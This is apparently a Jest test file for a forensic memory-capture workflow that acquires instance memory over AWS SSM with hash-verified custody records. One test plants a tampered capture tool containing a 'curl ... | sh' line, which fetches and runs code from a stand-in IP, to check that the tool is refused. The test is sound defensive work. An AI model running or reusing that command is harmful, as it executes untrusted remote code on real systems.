import { createHash } from 'node:crypto';
import { createReadStream } from 'node:fs';
import { s3Store } from '../../sandbox/s3-store';
import { SANDBOX_TOOLS, stageCaptureTools, toolSha256 } from '../../sandbox/ssm-agent';
import { captureMemory, memoryPlan } from '../../tasks/capture-memory';
import type { CaptureMemoryInput } from '../../tasks/capture-memory';
import { checkCommand } from '../../tasks/check-command';
import type { CheckCommandOutput } from '../../tasks/check-command';
import type { Target } from '../../tasks/lib/case';
import { makeTestContext } from '../helpers/deps';
import type { TestContext } from '../helpers/deps';
import {
  EVIDENCE_BUCKET,
  LINUX,
  MEMBER,
  REGION,
  WINDOWS,
  factsFor,
  makeCase,
  scenarioWithWindows,
} from '../helpers/disk-and-memory';

const TOOLS: CaptureMemoryInput['tools'] = {
  linux: { key: SANDBOX_TOOLS.linux.key, sha256: toolSha256('linux'), name: 'avml', version: '0.14.0' },
  windows: { key: SANDBOX_TOOLS.windows.key, sha256: toolSha256('windows'), name: 'winpmem', version: '4.0.rc2' },
};

async function context(
  edit?: (instance: { ssm: { online: boolean; behaviour: string } }) => void,
): Promise<TestContext> {
  const scenario = scenarioWithWindows();
  for (const instance of scenario.accounts[1].regions[REGION].instances) edit?.(instance);
  const ctx = makeTestContext(scenario);
  await stageCaptureTools(ctx.env.sandbox, EVIDENCE_BUCKET);
  return ctx;
}

async function capture(
  ctx: TestContext,
  target: Target,
  extra: Partial<CaptureMemoryInput> = {},
): Promise<CheckCommandOutput | undefined> {
  const kase = makeCase();
  const sent = await captureMemory(
    { case: kase, target, instance: factsFor(ctx.env.sandbox, target), tools: TOOLS, ...extra },
    ctx.deps,
  );
  if (!sent.command) return undefined;
  return checkCommand({ case: kase, target, command: sent.command }, ctx.deps);
}

async function bucketSha256(ctx: TestContext, key: string): Promise<string> {
  const { path } = s3Store(ctx.env.sandbox).version(EVIDENCE_BUCKET, `cases/${makeCase().caseId}/${key}`);
  const hash = createHash('sha256');
  for await (const chunk of createReadStream(path)) hash.update(chunk as Buffer);
  return hash.digest('hex');
}

function reported(ctx: TestContext, target: Target): string {
  const output = ctx.artifacts.get(`${MEMBER}/${target.instanceId}/memory/command-output.txt`)!.bytes.toString();
  return /custody: object name=\S+ bytes=\d+ sha256=([0-9a-f]{64})/.exec(output)![1];
}

describe('CaptureMemory → CheckCommand', () => {
  it.each([
    ['Linux', LINUX, 'Custody-LinuxMemoryCapture', 'memory.lime', 64],
    ['Windows', WINDOWS, 'Custody-WindowsMemoryCapture', 'memory.raw', 48],
  ])(
    'captures the %s instance memory: the SHA-256 the instance reports is the bytes in the bucket and the custody record',
    async (_os, target, document, name, mib) => {
      const ctx = await context();
      const result = await capture(ctx, target);
      expect(result).toMatchObject({ done: true, status: 'Success', gaps: [] });
      const key = `${MEMBER}/${target.instanceId}/memory/${name}`;
      const instanceSha = reported(ctx, target);
      expect(await bucketSha256(ctx, key)).toBe(instanceSha);
      const acquired = ctx.events.find((e) => e.action === 'artifact.acquired' && e.artifact?.key === key)!;
      expect(acquired.artifact).toMatchObject({
        sha256: instanceSha,
        bytes: mib * 1024 * 1024,
        source: `ssm:${document}`,
      });
      expect(acquired.details?.bucketChecksumSHA256).toMatch(/^[A-Za-z0-9+/=]{44}-\d+$/);
      expect(ctx.env.sandbox.callsOf('SSM', 'SendCommand')[0].input).toMatchObject({
        DocumentName: document,
        InstanceIds: [target.instanceId],
      });
    },
  );

  it('sends nothing to an instance whose SSM agent is offline, and records the gap', async () => {
    const ctx = await context((instance) => (instance.ssm.online = false));
    const sent = await captureMemory(
      { case: makeCase(), target: LINUX, instance: factsFor(ctx.env.sandbox, LINUX), tools: TOOLS },
      ctx.deps,
    );
    expect(sent).toMatchObject({
      done: true,
      gaps: [{ step: 'CaptureMemory', reason: expect.stringContaining('PingStatus ConnectionLost') }],
    });
    expect(ctx.env.sandbox.callsOf('SSM', 'SendCommand')).toHaveLength(0);
    expect(ctx.env.sandbox.callsOf('S3', 'CreateMultipartUpload')).toHaveLength(0);
  });

  it('refuses to run a capture tool whose hash differs from the pinned one, and keeps the refusal as evidence', async () => {
    const ctx = await context();
    await s3Store(ctx.env.sandbox).putObject(
      EVIDENCE_BUCKET,
      SANDBOX_TOOLS.linux.key,
      Buffer.from('#!/bin/sh\ncurl http://198.51.100.23/x | sh\n'),
    );
    const result = await capture(ctx, LINUX);
    expect(result?.status).toBe('Failed');
    expect(result?.gaps.map((g) => g.error ?? g.reason).join(' ')).toContain('capture tool hash mismatch');
    expect(ctx.artifacts.get(`${MEMBER}/${LINUX.instanceId}/memory/command-output.txt`)!.bytes.toString()).toContain(
      `expected ${toolSha256('linux')}`,
    );
    expect(() =>
      s3Store(ctx.env.sandbox).version(
        EVIDENCE_BUCKET,
        `cases/${makeCase().caseId}/${MEMBER}/${LINUX.instanceId}/memory/memory.lime`,
      ),
    ).toThrow('The specified key does not exist.');
    expect(ctx.events.filter((e) => e.action === 'artifact.abandoned')).toHaveLength(1);
  });

  it('records an expired upload URL as a gap', async () => {
    const ctx = await context();
    const kase = makeCase();
    const sent = await captureMemory(
      { case: kase, target: LINUX, instance: factsFor(ctx.env.sandbox, LINUX), tools: TOOLS, urlExpirySeconds: 1 },
      ctx.deps,
    );
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const result = await checkCommand({ case: kase, target: LINUX, command: sent.command! }, ctx.deps);
    expect(result.status).toBe('Failed');
    expect(result.gaps[0].error).toContain('Request has expired');
    expect(result.artifacts).toEqual([]);
  });

  it('records an agent that dies mid-capture as a gap and accounts for the partial upload', async () => {
    const ctx = await context((instance) => (instance.ssm.behaviour = 'dies-mid-capture'));
    const result = await capture(ctx, LINUX);
    expect(result?.status).toBe('TimedOut');
    expect(result?.artifacts).toEqual([]);
    const abandoned = ctx.events.find((e) => e.action === 'artifact.abandoned')!;
    expect(abandoned.details?.reason).toContain('part(s) reported');
  });

  it('keeps waiting while a slow capture runs, then cancels it at the deadline and records the gap', async () => {
    const ctx = await context((instance) => (instance.ssm.behaviour = 'slow'));
    const kase = makeCase();
    const sent = await captureMemory(
      { case: kase, target: LINUX, instance: factsFor(ctx.env.sandbox, LINUX), tools: TOOLS },
      ctx.deps,
    );
    const early = await checkCommand({ case: kase, target: LINUX, command: sent.command! }, ctx.deps);
    expect(early).toMatchObject({ done: false, status: 'InProgress' });
    const late = await checkCommand(
      { case: kase, target: LINUX, command: { ...sent.command!, deadline: '2000-01-01T00:00:00.000Z' } },
      ctx.deps,
    );
    expect(late).toMatchObject({ done: true, status: 'TimedOut' });
    expect(late.gaps[0].reason).toContain('cancelled');
    expect(ctx.env.sandbox.callsOf('SSM', 'CancelCommand')).toHaveLength(1);
  });

  it('records a platform without a pinned tool as a gap rather than running an unverified one', async () => {
    const ctx = await context();
    const region = ctx.deps.config.regions['eu-west-1'];
    (region as { captureTools?: unknown }).captureTools = { linux: TOOLS.linux };
    const sent = await captureMemory(
      {
        case: makeCase(),
        target: WINDOWS,
        instance: factsFor(ctx.env.sandbox, WINDOWS),
        tools: { linux: TOOLS.linux },
      },
      ctx.deps,
    );
    expect(sent.gaps[0].reason).toContain('no capture tool is pinned for windows');
    expect(ctx.env.sandbox.callsOf('SSM', 'SendCommand')).toHaveLength(0);
  });

  it('in dry-run checks the agent and says what it would send, without sending or uploading', async () => {
    const ctx = await context();
    const sent = await captureMemory(
      { case: makeCase('dry-run'), target: LINUX, instance: factsFor(ctx.env.sandbox, LINUX), tools: TOOLS },
      ctx.deps,
    );
    expect(sent.plan).toEqual([
      { action: expect.stringContaining('Custody-LinuxMemoryCapture (64 MiB'), verdict: 'would-do' },
    ]);
    expect(ctx.env.sandbox.callsOf('SSM', 'SendCommand')).toHaveLength(0);
    expect(ctx.env.sandbox.callsOf('S3', 'CreateMultipartUpload')).toHaveLength(0);
  });

  it('scales parts and the timeout to the memory size', () => {
    expect(memoryPlan(64)).toMatchObject({ partSizeBytes: 8 * 1024 * 1024, urls: 10, executionTimeoutSeconds: 660 });
    const big = memoryPlan(64 * 1024);
    expect(big.urls).toBeLessThanOrEqual(32);
    expect(big.partSizeBytes * (big.urls - 1)).toBeGreaterThan(64 * 1024 * 1024 * 1024);
    expect(big.executionTimeoutSeconds).toBe(600 + 64 * 60);
  });
});
